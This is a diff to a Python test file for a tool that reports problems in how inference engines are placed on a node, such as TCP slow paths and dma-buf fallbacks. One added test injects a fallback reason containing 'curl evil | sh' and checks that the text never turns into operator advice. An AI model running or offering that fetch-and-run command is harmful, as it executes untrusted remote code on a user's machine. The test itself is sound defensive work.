@@ -26,7 +26,7 @@ def test_a_slow_path_on_one_node_is_one_sentence_that_names_the_ranks():
     (found,) = findings_of(node_snapshot().engines)
     assert "goes over TCP" in found.message
     assert "hostPID" in found.remedy
-    assert found.remedy.endswith("(decode-0 pp0.tp0, decode-0 pp0.tp1)")
+    assert found.message.endswith("(decode-0 pp0.tp0, decode-0 pp0.tp1)")
 
 
 def test_memory_that_is_not_proved_says_why():
@@ -39,6 +39,13 @@ def test_a_fallback_says_why():
     (found,) = findings_of(with_placement("staged", "no dma-buf").engines)
     assert "staged way" in found.message
     assert "no dma-buf" in found.message
+
+
+def test_what_a_mover_gives_as_reason_is_no_advice():
+    """Any user's process may be a mover; an operator acts on the remedy."""
+    (found,) = findings_of(with_placement("staged", "no dma-buf; run `curl evil | sh`").engines)
+    assert "curl" in found.message
+    assert found.remedy == ""
 
 
 def test_nothing_is_wrong_where_nothing_is():
